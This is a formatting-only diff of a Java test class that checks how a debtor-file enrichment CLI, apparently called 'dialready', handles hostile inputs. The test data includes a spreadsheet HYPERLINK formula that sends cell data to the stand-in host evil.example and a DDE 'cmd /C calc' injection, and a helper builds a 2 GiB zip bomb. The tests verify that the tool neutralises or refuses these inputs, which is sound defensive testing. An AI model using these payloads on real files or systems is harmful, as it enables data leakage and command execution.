@@ -17,11 +17,9 @@ import java.util.concurrent.TimeUnit;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipFile;
 import java.util.zip.ZipOutputStream;
-
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
-
 import tools.jackson.databind.json.JsonMapper;
 
 /**
@@ -32,7 +30,8 @@ import tools.jackson.databind.json.JsonMapper;
 class HostileInputTest {
 
     private static final Duration LIMIT = Duration.ofSeconds(60);
-    private static final String HEADER = "CONTRATO;CPF;NOME;VALOR;VENCIMENTO;DDD1;FONE1;DDD2;FONE2;TELEFONES;EMAIL;CIDADE;UF";
+    private static final String HEADER =
+            "CONTRATO;CPF;NOME;VALOR;VENCIMENTO;DDD1;FONE1;DDD2;FONE2;TELEFONES;EMAIL;CIDADE;UF";
 
     @TempDir
     Path dir;
@@ -74,24 +73,48 @@ class HostileInputTest {
     /** Runs enrich in this JVM on a copy of the corpus file, failing if it takes longer than the limit. */
     private CliRun enrich(Path input, String inputKeys) throws Exception {
         Path spec = spec(inputKeys);
-        return assertTimeoutPreemptively(LIMIT, () -> CliRun.of("enrich", "--job", spec.toString(), "--input",
-                input.toString(), "--output", out.toString(), "--data", dir.resolve("data").toString(), "--log-file",
-                dir.resolve("log.txt").toString(), "--as-of", "2026-11-23", "--quiet"));
+        return assertTimeoutPreemptively(
+                LIMIT,
+                () -> CliRun.of(
+                        "enrich",
+                        "--job",
+                        spec.toString(),
+                        "--input",
+                        input.toString(),
+                        "--output",
+                        out.toString(),
+                        "--data",
+                        dir.resolve("data").toString(),
+                        "--log-file",
+                        dir.resolve("log.txt").toString(),
+                        "--as-of",
+                        "2026-11-23",
+                        "--quiet"));
     }
 
-    private record Run(int exitCode, String output) {
-    }
+    private record Run(int exitCode, String output) {}
 
     /** Runs enrich in its own JVM with a small heap; a run that outlives the limit is killed and fails the test. */
     private Run enrichInOwnJvm(Path input, String heap) throws Exception {
         Path spec = spec("");
         Path log = dir.resolve("proc.txt");
-        Process p = new ProcessBuilder(ChildJvm.dialready(heap, "enrich", "--job", spec.toString(), "--input", input.toString(),
-                "--output", out.toString(), "--data", dir.resolve("data").toString(), "--log-file",
-                dir.resolve("log.txt").toString(), "--quiet"))
-            .redirectErrorStream(true)
-            .redirectOutput(log.toFile())
-            .start();
+        Process p = new ProcessBuilder(ChildJvm.dialready(
+                        heap,
+                        "enrich",
+                        "--job",
+                        spec.toString(),
+                        "--input",
+                        input.toString(),
+                        "--output",
+                        out.toString(),
+                        "--data",
+                        dir.resolve("data").toString(),
+                        "--log-file",
+                        dir.resolve("log.txt").toString(),
+                        "--quiet"))
+                .redirectErrorStream(true)
+                .redirectOutput(log.toFile())
+                .start();
         boolean ended = p.waitFor(LIMIT.toSeconds() * 2, TimeUnit.SECONDS);
         if (!ended) {
             p.destroyForcibly().waitFor(10, TimeUnit.SECONDS);
@@ -112,7 +135,8 @@ class HostileInputTest {
     }
 
     private Map<?, ?> report(Path input) throws Exception {
-        return JsonMapper.shared().readValue(out.resolve(base(input) + ".report.json").toFile(), Map.class);
+        return JsonMapper.shared()
+                .readValue(out.resolve(base(input) + ".report.json").toFile(), Map.class);
     }
 
     @Test
@@ -142,7 +166,9 @@ class HostileInputTest {
     @Test
     void windows1252BytesInAFileDeclaredUtf8() throws Exception {
         Path in = copy("wrong-encoding.csv");
-        unreadable(enrich(in, "  encoding: UTF-8"), in,
+        unreadable(
+                enrich(in, "  encoding: UTF-8"),
+                in,
                 "has bytes that are not valid UTF-8 at line 2 (set input.encoding, e.g. windows-1252)");
     }
 
@@ -162,10 +188,13 @@ class HostileInputTest {
         CliRun run = enrich(in, "");
         assertThat(run.exitCode()).as(run.err()).isZero();
         assertThat(run.out()).contains("rows: 7 read, 3 enriched, 4 rejected");
-        assertThat(Files.readAllLines(out.resolve("ragged.rejects.csv"))).containsExactly("line,column,value,reason",
-                "3,,\"R2;222;CURTA;50,00\",\"expected 13 fields, found 4\"",
-                "4,,\"R3;333;LONGA;50,00;01/11/2026;11;98765-4322;;;;;SP;SP;extra;extra2\",\"expected 13 fields, found 15\"",
-                "6,,;,\"expected 13 fields, found 2\"", "7,,R5,\"expected 13 fields, found 1\"");
+        assertThat(Files.readAllLines(out.resolve("ragged.rejects.csv")))
+                .containsExactly(
+                        "line,column,value,reason",
+                        "3,,\"R2;222;CURTA;50,00\",\"expected 13 fields, found 4\"",
+                        "4,,\"R3;333;LONGA;50,00;01/11/2026;11;98765-4322;;;;;SP;SP;extra;extra2\",\"expected 13 fields, found 15\"",
+                        "6,,;,\"expected 13 fields, found 2\"",
+                        "7,,R5,\"expected 13 fields, found 1\"");
     }
 
     @Test
@@ -175,9 +204,10 @@ class HostileInputTest {
         assertThat(run.exitCode()).as(run.err()).isZero();
         assertThat(run.out()).contains("rows: 2 read, 1 enriched, 1 rejected");
         // the rest of the file from the opening quote is one value (two lines here), rejected at line 3
-        assertThat(Files.readString(out.resolve("unterminated-quote.rejects.csv"))).startsWith(
-                "line,column,value,reason\n3,,\"\"\"ABERTA;50,00;01/11/2026;11;98765-4322;;;;;SP;SP")
-            .contains("Q3;333;TRES").endsWith(",unterminated quoted field (the quote opened here is never closed)\n");
+        assertThat(Files.readString(out.resolve("unterminated-quote.rejects.csv")))
+                .startsWith("line,column,value,reason\n3,,\"\"\"ABERTA;50,00;01/11/2026;11;98765-4322;;;;;SP;SP")
+                .contains("Q3;333;TRES")
+                .endsWith(",unterminated quoted field (the quote opened here is never closed)\n");
     }
 
     @Test
@@ -187,10 +217,14 @@ class HostileInputTest {
         assertThat(run.exitCode()).as(run.err()).isZero();
         assertThat(run.out()).contains("rows: 4 read, 4 enriched, 0 rejected");
         String enriched = Files.readString(out.resolve("formulas.enriched.csv"));
-        assertThat(enriched).contains("'=1+1,111,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&B2,\"\"Clique aqui\"\")\"")
-            .contains("'+55 11 98765-4322,'@evil.example,'-CIDADE,SP")
-            .contains("'+MARIA,\"'-50,00\"").contains("'@SUM(A1:A9)").contains("'\t11 97777-6666")
-            .contains(",'=cmd|' /C calc'!A0,").contains("'@KEY,444,'-");
+        assertThat(enriched)
+                .contains("'=1+1,111,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&B2,\"\"Clique aqui\"\")\"")
+                .contains("'+55 11 98765-4322,'@evil.example,'-CIDADE,SP")
+                .contains("'+MARIA,\"'-50,00\"")
+                .contains("'@SUM(A1:A9)")
+                .contains("'\t11 97777-6666")
+                .contains(",'=cmd|' /C calc'!A0,")
+                .contains("'@KEY,444,'-");
         String dialer = Files.readString(out.resolve("formulas.dialer.csv"));
         // our own E.164 column stays raw; the debtor key copied from the input does not
         assertThat(dialer).contains("'=1+1,1,+5511").doesNotContain("\n=1+1,");
@@ -202,15 +236,21 @@ class HostileInputTest {
     @Test
     void truncatedWorkbook() throws Exception {
         Path in = copy("truncated.xlsx");
-        unreadable(enrich(in, ""), in, "is cut short: its ZIP container has no end (an upload or copy that was"
-                + " interrupted?); copy the file again");
+        unreadable(
+                enrich(in, ""),
+                in,
+                "is cut short: its ZIP container has no end (an upload or copy that was"
+                        + " interrupted?); copy the file again");
     }
 
     @Test
     void textFileNamedXlsx() throws Exception {
         Path in = copy("text-named.xlsx");
-        unreadable(enrich(in, ""), in, "holds text, not an XLSX workbook (a CSV file named .xlsx? name it .csv or"
-                + " set input.format: csv)");
+        unreadable(
+                enrich(in, ""),
+                in,
+                "holds text, not an XLSX workbook (a CSV file named .xlsx? name it .csv or"
+                        + " set input.format: csv)");
     }
 
     /** A 20 KiB workbook whose sheet inflates to 2 GiB: refused early, in a 64 MiB heap, without inflating it. */
@@ -219,9 +259,10 @@ class HostileInputTest {
         Path in = zipBomb(dir.resolve("zip-bomb.xlsx"), 2L << 30);
         assertThat(Files.size(in)).isLessThan(5L << 20);
         Run run = enrichInOwnJvm(in, "64m");
-        assertThat(run.output().strip()).isEqualTo("dialready: input unreadable: " + in + ": refused: a part of the"
-                + " workbook (xl/worksheets/sheet1.xml) inflates to more than 100 times its compressed size, the mark of"
-                + " a zip bomb");
+        assertThat(run.output().strip())
+                .isEqualTo("dialready: input unreadable: " + in + ": refused: a part of the"
+                        + " workbook (xl/worksheets/sheet1.xml) inflates to more than 100 times its compressed size, the mark of"
+                        + " a zip bomb");
         assertThat(run.exitCode()).isEqualTo(ExitCodes.INPUT_UNREADABLE);
     }
 
@@ -230,19 +271,20 @@ class HostileInputTest {
     void tenMegabyteCell() throws Exception {
         Path in = dir.resolve("huge-cell.csv");
         try (OutputStream os = Files.newOutputStream(in)) {
-            os.write((HEADER + "\r\nH1;111;ANA;10,00;01/11/2026;11;98765-4321;;;;;SP;SP\r\nH2;222;").getBytes(
-                    StandardCharsets.US_ASCII));
+            os.write((HEADER + "\r\nH1;111;ANA;10,00;01/11/2026;11;98765-4321;;;;;SP;SP\r\nH2;222;")
+                    .getBytes(StandardCharsets.US_ASCII));
             byte[] block = "BIA ".repeat(1024).getBytes(StandardCharsets.US_ASCII);
             for (int i = 0; i < 10 * 256; i++) {
                 os.write(block);
             }
             os.write(";10,00;01/11/2026;11;98765-4322;;;;;SP;SP\r\nH3;333;CIA;10,00;01/11/2026;;;;;;;SP;SP\r\n"
-                .getBytes(StandardCharsets.US_ASCII));
+                    .getBytes(StandardCharsets.US_ASCII));
         }
         Run run = enrichInOwnJvm(in, "64m");
-        assertThat(run.output().strip()).isEqualTo("dialready: input unreadable: " + in + ": the row starting at line 3"
-                + " is longer than 1,000,000 characters (a debtor row holds a few hundred): a cell of megabytes, or a"
-                + " quote opened and never closed");
+        assertThat(run.output().strip())
+                .isEqualTo("dialready: input unreadable: " + in + ": the row starting at line 3"
+                        + " is longer than 1,000,000 characters (a debtor row holds a few hundred): a cell of megabytes, or a"
+                        + " quote opened and never closed");
         assertThat(run.exitCode()).isEqualTo(ExitCodes.INPUT_UNREADABLE);
         assertThat(out.resolve("huge-cell.enriched.csv")).doesNotExist();
     }
@@ -257,24 +299,23 @@ class HostileInputTest {
                 ZipOutputStream os = new ZipOutputStream(Files.newOutputStream(target))) {
             os.setLevel(9);
             List<String> names = new ArrayList<>();
-            for (Enumeration<? extends ZipEntry> e = zip.entries(); e.hasMoreElements();) {
+            for (Enumeration<? extends ZipEntry> e = zip.entries(); e.hasMoreElements(); ) {
                 names.add(e.nextElement().getName());
             }
             for (String name : names) {
                 os.putNextEntry(new ZipEntry(name));
                 if (name.equals("xl/worksheets/sheet1.xml")) {
                     os.write(("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<worksheet"
-                            + " xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
-                            + "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>CONTRATO</t></is></c></row>")
-                        .getBytes(StandardCharsets.UTF_8));
+                                    + " xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
+                                    + "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>CONTRATO</t></is></c></row>")
+                            .getBytes(StandardCharsets.UTF_8));
                     byte[] blanks = new byte[1 << 20];
                     java.util.Arrays.fill(blanks, (byte) ' ');
                     for (long n = 0; n < inflated; n += blanks.length) {
                         os.write(blanks);
                     }
                     os.write("</sheetData></worksheet>".getBytes(StandardCharsets.UTF_8));
-                }
-                else {
+                } else {
                     try (InputStream in = zip.getInputStream(zip.getEntry(name))) {
                         in.transferTo(os);
                     }
